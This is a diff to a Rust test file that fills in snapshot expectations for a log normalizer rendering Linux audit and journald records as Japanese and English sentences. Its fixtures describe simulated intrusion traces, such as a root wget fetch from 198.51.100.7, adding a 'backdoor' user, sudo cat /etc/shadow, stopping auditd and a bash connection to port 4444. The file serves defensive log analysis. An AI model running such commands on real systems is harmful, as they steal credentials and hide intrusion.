@@ -64,7 +64,20 @@ fn later_records_of_an_act_know_what_earlier_ones_said() {
     let sentences: Vec<String> = (0..ACT.len())
         .flat_map(|row| [Lang::Ja, Lang::En].map(|lang| normalizer.sentence(&batch, row, lang)))
         .collect();
-    insta::assert_snapshot!(sentences.join("\n"), @"");
+    insta::assert_snapshot!(sentences.join("\n"), @r"
+    tanaka がこのホストで /usr/bin/wget からプログラムの実行（execve）を行った（鍵 susp_activity）（成功）
+    tanaka did on this host, from /usr/bin/wget, running a program (execve) (key susp_activity) (success)
+    tanaka がこのホストで root として実行した：wget -O /tmp/x http://198.51.100.7/a b#
+    tanaka ran as root on this host: wget -O /tmp/x http://198.51.100.7/a b#
+    tanaka の操作はこのホストの /root で行われた（/usr/bin/wget）
+    What tanaka did on this host was done in /root with /usr/bin/wget
+    tanaka がこのホストで /root/tool/x を作成した（/usr/bin/wget）（成功）
+    tanaka created /root/tool/x on this host with /usr/bin/wget (success)
+    tanaka の操作はこのホストの次のコマンドによる：wget -O /tmp/x
+    What tanaka did on this host came from: wget -O /tmp/x
+    このホストの一つの操作の監査記録がここで終わる
+    The audit records of one act on this host end here
+    ");
 }
 
 #[test]
@@ -128,7 +141,7 @@ fn records_of_programs_read_well() {
         "type=USER_LOGIN msg=audit(1795252502.155:1): pid=900 uid=0 auid=1000 ses=3 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=192.0.2.10 addr=192.0.2.10 terminal=/dev/pts/0 res=success'",
         "type=USER_AUTH msg=audit(1795252502.155:2): pid=901 uid=0 auid=4294967295 ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"suzuki\" exe=\"/usr/sbin/sshd\" hostname=192.0.2.66 addr=192.0.2.66 terminal=ssh res=failed'",
         "type=ADD_USER msg=audit(1795252502.155:3): pid=902 uid=0 auid=1000 ses=3 msg='op=adding user acct=\"backdoor\" exe=\"/usr/sbin/useradd\" hostname=web01 addr=? terminal=pts/0 res=success'",
-        "type=USER_CMD msg=audit(1795252502.155:4): pid=903 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/tanaka\" cmd=6361742F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
+        "type=USER_CMD msg=audit(1795252502.155:4): pid=903 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/tanaka\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
         "type=SERVICE_STOP msg=audit(1795252502.155:5): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'",
         "type=AVC msg=audit(1795252502.155:6): avc:  denied  { read } for  pid=904 comm=\"httpd\" name=\"shadow\" dev=\"dm-0\" ino=5 scontext=system_u:system_r:httpd_t:s0 tcontext=system_u:object_r:shadow_t:s0 tclass=file permissive=0",
         "type=CONFIG_CHANGE msg=audit(1795252502.155:7): auid=1000 ses=3 op=remove_rule key=\"watch\" list=4 res=1",
@@ -139,7 +152,24 @@ fn records_of_programs_read_well() {
         .map(|record| describe(*record))
         .flat_map(|read| [read.sentence_ja, read.sentence_en])
         .collect();
-    insta::assert_snapshot!(sentences.join("\n"), @"");
+    insta::assert_snapshot!(sentences.join("\n"), @r"
+    1000 が 192.0.2.10 からこのホストにログオンした（sshd）（成功）
+    1000 logged on to this host from 192.0.2.10 with sshd (success)
+    suzuki がこのホストで認証を受けた（sshd）（接続元 192.0.2.66）（失敗）
+    suzuki authenticated on this host with sshd from 192.0.2.66 (failure)
+    1000 がこのホストに利用者 backdoor を作成した（成功）
+    1000 added the user backdoor on this host (success)
+    1000 がこのホストで sudo により実行した：cat /etc/shadow（成功）
+    1000 ran with sudo on this host: cat /etc/shadow (success)
+    このホストでサービス auditd が停止した（成功）
+    The service auditd stopped on this host (success)
+    このホストの SELinux が httpd による file shadow への read を判定した（拒否）
+    SELinux on this host decided about read by httpd on file shadow (denied)
+    1000 がこのホストの監査の設定を変更した：remove_rule（鍵 watch）（成功）
+    1000 changed the audit configuration of this host: remove_rule (key watch) (success)
+    1000 がこのホストの監査の記録を止めた（成功）
+    1000 stopped auditing on this host (success)
+    ");
 }
 
 #[test]
@@ -150,7 +180,7 @@ fn a_connection_names_its_end() {
     let (normalizer, batch) = read(&[syscall, address]);
     assert_eq!(value(&batch, 1, "destination.ip"), "198.51.100.7");
     assert_eq!(value(&batch, 1, "destination.port"), "4444");
-    insta::assert_snapshot!(normalizer.sentence(&batch, 1, Lang::Ja), @"");
+    insta::assert_snapshot!(normalizer.sentence(&batch, 1, Lang::Ja), @"1000 の /usr/bin/bash がこのホストから 198.51.100.7 の 4444 番ポートに接続した");
 }
 
 #[test]
@@ -158,9 +188,31 @@ fn the_journals_export_format_is_read_like_syslog() {
     let entry = "__CURSOR=s=0a1b;i=2f;b=c3\n__REALTIME_TIMESTAMP=1795252502417000\n_BOOT_ID=c3\n_HOSTNAME=web01\nPRIORITY=6\nSYSLOG_FACILITY=4\nSYSLOG_IDENTIFIER=sshd\n_PID=4242\n_SYSTEMD_UNIT=ssh.service\nMESSAGE=Failed password for root from 192.0.2.66 port 50022 ssh2\n";
     let read = describe(entry);
     assert_eq!(read.dataset, "linux.auth");
-    insta::assert_snapshot!(fields(&read), @"");
+    insta::assert_snapshot!(fields(&read), @r"
+    @timestamp = 2026-11-21T09:15:02.417000Z
+    __CURSOR = s=0a1b;i=2f;b=c3
+    __REALTIME_TIMESTAMP = 1795252502417000
+    _BOOT_ID = c3
+    _SYSTEMD_UNIT = ssh.service
+    log.syslog.facility.code = 4
+    log.syslog.severity.code = 6
+    log.level = informational
+    host.name = web01
+    process.name = sshd
+    process.pid = 4242
+    user.name = root
+    source.ip = 192.0.2.66
+    source.port = 50022
+    event.action = ssh_login
+    event.outcome = failure
+    message = Failed password for root from 192.0.2.66 port 50022 ssh2
+    activity_id = 1
+    class_uid = 3002
+    event.category = authentication
+    status_id = 2
+    ");
     let json = r#"{"__CURSOR":"s=0a1b","__REALTIME_TIMESTAMP":"1795252502417000","_HOSTNAME":"web01","PRIORITY":"3","SYSLOG_IDENTIFIER":"myapp","_PID":"7","MESSAGE":"disk is full"}"#;
     let read = describe(json);
     assert_eq!(read.dataset, "linux.syslog");
-    insta::assert_snapshot!(format!("{} {}", read.timestamp, read.sentence_ja), @"");
+    insta::assert_snapshot!(format!("{} {}", read.timestamp, read.sentence_ja), @"2026-11-21T09:15:02.417000Z web01 の myapp の記録（エラー）：disk is full");
 }
